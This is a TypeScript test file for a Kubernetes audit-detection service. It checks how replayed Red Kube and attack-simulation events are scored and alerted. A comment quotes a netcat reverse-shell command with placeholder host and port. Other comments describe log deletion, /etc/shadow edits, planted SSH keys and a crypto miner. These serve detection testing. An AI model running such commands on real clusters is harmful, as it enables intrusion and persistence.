// Lightspin's Red Kube (kubectl commands grouped by ATT&CK tactic) and its light-k8s-attack-simulations
// pods (test/fixtures/offensive-tools/red-kube.json: the requests kubectl makes for each command, as
// kube-apiserver audits them), POSTed to a running `serve`: what each event comes out as in `events`
// and `events --alerts`, each high one's alert a valid OCSF 2004 finding naming its rule or table row.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { FIXTURES } from '../helpers/fixtures.js';
import { type Outcome, servedActions } from '../helpers/through-serve.js';

const SECRET = 'red-kube-serve-secret-0123456789abcdef';

interface Action {
  tool: string;
  id: string;
  action: string;
  source: string;
  events: Record<string, unknown>[];
}
const { actions } = JSON.parse(readFileSync(join(FIXTURES, 'offensive-tools', 'red-kube.json'), 'utf8')) as { actions: Action[] };

/** Each event's severity, its severity_reason and the rules that fired, in the fixture's order. */
// Plain discovery that routine traffic also makes all day, below medium on purpose
// (docs/detection-rules.md, "Left below medium on purpose"): kubectl's discovery GETs, `get` of a
// pod before an exec, lists of pods, services, nodes, ConfigMaps, PVCs and NetworkPolicies in all
// namespaces (kube-state-metrics, dashboards, every operator's informers and an admin's
// `kubectl get -A` make the same requests). What the operator does with the answer (jq over
// env, images, securityContext) never reaches the API server.
const RECON: Outcome = ['info', 'steady-state'];
// RBAC reads are kept as a trace (low): Red Kube's rk-ds06..14 look for cluster-admin bindings and
// roles with secrets or wildcards, which audit tools and RBAC dashboards also list.
const RBAC_READ: Outcome = ['low', 'sensitive-read'];
// kubectl apply's first request: a get answered 404 (the object is not there yet); table row 7.
const APPLY_GET: Outcome = ['medium', 'request-denied-or-failed'];
const WRITE: Outcome = ['medium', 'workload-change'];
const EXEC: Outcome = ['high', 'pod-interactive-access'];
const EXEC_PAIR: Outcome[] = [RECON, EXEC];

const EXPECTED: Record<string, Outcome[]> = {
  discovery: [RECON, RECON],
  // The trivy pod (apply), the image list, then three execs: kubectl cp's tar in, the scan, tar out.
  'rk-co01': [APPLY_GET, WRITE, RECON, ...EXEC_PAIR, ...EXEC_PAIR, ...EXEC_PAIR],
  'rk-cnc01': EXEC_PAIR,
  // `nc $HOST $PORT -e /bin/sh` as the pod's args: was medium workload-change with no rule named.
  'rk-cnc02': [['high', 'rule:reverse-shell-command', ['reverse-shell-command']]],
  'rk-ca01': [RECON],
  'rk-ca02': [RECON],
  'rk-ca03': [RECON],
  'rk-ca04': EXEC_PAIR,
  // The exec, then curl in the pod with its own token: GET /api is what every in-cluster client
  // sends first (client-go's discovery), so it stays info; the exec is the alert.
  'rk-ca05': [...EXEC_PAIR, RECON],
  // The pod's token listing kube-system's Secrets with curl: curl names the second rule.
  'rk-ca06': [
    ...EXEC_PAIR,
    ['medium', 'rule:workload-cross-namespace-secret-read', ['workload-cross-namespace-secret-read', 'workload-secret-read-by-http-tool']],
  ],
  'rk-ca07': EXEC_PAIR,
  'rk-ca08': [...EXEC_PAIR, ...EXEC_PAIR],
  // On EKS there is no kube-apiserver pod to read: only the list of kube-system's pods is sent.
  'rk-de01': [RECON],
  'rk-ds01': [RECON],
  'rk-ds02': [RECON],
  'rk-ds03': [RECON],
  'rk-ds04': [RECON],
  'rk-ds05': [RECON],
  'rk-ds06': [RBAC_READ],
  'rk-ds07': [RBAC_READ],
  'rk-ds08': [RBAC_READ],
  'rk-ds09': [RBAC_READ],
  'rk-ds10': [RBAC_READ],
  'rk-ds11': [RECON],
  'rk-ds12': [RECON],
  'rk-ds13': [RBAC_READ],
  'rk-ds14': [RBAC_READ],
  'rk-ds15': [RECON],
  'rk-ex01': EXEC_PAIR,
  // hostNetwork and a PVC mounted: medium, host-network named.
  'rk-pr01': [APPLY_GET, ['medium', 'workload-change', ['host-network']]],
  // kube-proxy-<5 hex> in kube-system by a person.
  'rk-pr02': [APPLY_GET, ['high', 'rule:kube-system-workload', ['kube-system-workload', 'kube-system-pod']]],
  'rk-pe01': [RECON],
  'rk-pe02': [RECON],
  'rk-pe03': [RECON],
  'rk-pe04': [RECON],
  // kubectl run -i --tty: the pod, the watch until it runs, the attach.
  'rk-re01': [WRITE, RECON, EXEC],
  'rk-re02': [WRITE, ...EXEC_PAIR, WRITE],
  cleanup: [WRITE, WRITE],
  // light-k8s-attack-simulations: each a kubectl apply of one pod in default. The SYS_PTRACE and
  // SYS_ADMIN pods are high; the others only run a script inside a plain container (rm of logs, a
  // line appended to /etc/shadow, an authorized_keys, xmrig), which no audit event shows: a
  // person's pod create, medium by row 6, is all the API server sees (Falco's runtime rules are
  // what those simulations are for).
  'dump-process-memory': [APPLY_GET, ['high', 'rule:dangerous-capabilities', ['dangerous-capabilities']]],
  'logs-removal': [APPLY_GET, WRITE],
  'modify-password-files': [APPLY_GET, WRITE],
  'modify-ssh-authorized-keys': [APPLY_GET, WRITE],
  'mount-cgroups-into-container': [
    APPLY_GET,
    ['high', 'rule:dangerous-capabilities', ['dangerous-capabilities', 'container-isolation-disabled']],
  ],
  'outbound-connection-to-miner': [APPLY_GET, WRITE],
  'sim-delete': [WRITE],
};

describe("Lightspin's Red Kube and k8s attack simulations, through serve", () => {
  const items = actions.flatMap((a) => a.events);
  const served = servedActions(
    'aisoc-red-kube-',
    SECRET,
    'prod',
    actions.map((a) => ({ key: a.id, title: `${a.tool} ${a.id} ${a.action}`, events: a.events })),
    EXPECTED,
  );

  it('every write, exec and attach a command makes comes out medium or high', () => {
    const active = items.filter(
      (e) =>
        ['create', 'update', 'patch', 'delete'].includes(String(e.verb)) ||
        ['exec', 'attach'].includes(String((e.objectRef as { subresource?: string } | undefined)?.subresource)),
    );
    expect(active.length).toBe(29);
    for (const e of active)
      expect(['medium', 'high'], String(e.auditID)).toContain(served.records.find((r) => r.audit_id === e.auditID)?.severity);
  });

  it('the reverse shell alert names T1059.004 and the pod it starts', () => {
    const shell = actions.find((a) => a.id === 'rk-cnc02')?.events[0];
    const alert = served.alerts.find((a) => a.audit_id === shell?.auditID) as unknown as {
      finding: { finding_info: { attacks?: { technique?: { uid?: string }; sub_technique?: { uid?: string } }[] } };
    };
    const uids = (alert.finding.finding_info.attacks ?? []).flatMap((x) => [x.technique?.uid, x.sub_technique?.uid]);
    expect(uids).toContain('T1059.004');
    expect(JSON.stringify(alert.finding)).toContain('pod-shell');
  });
});
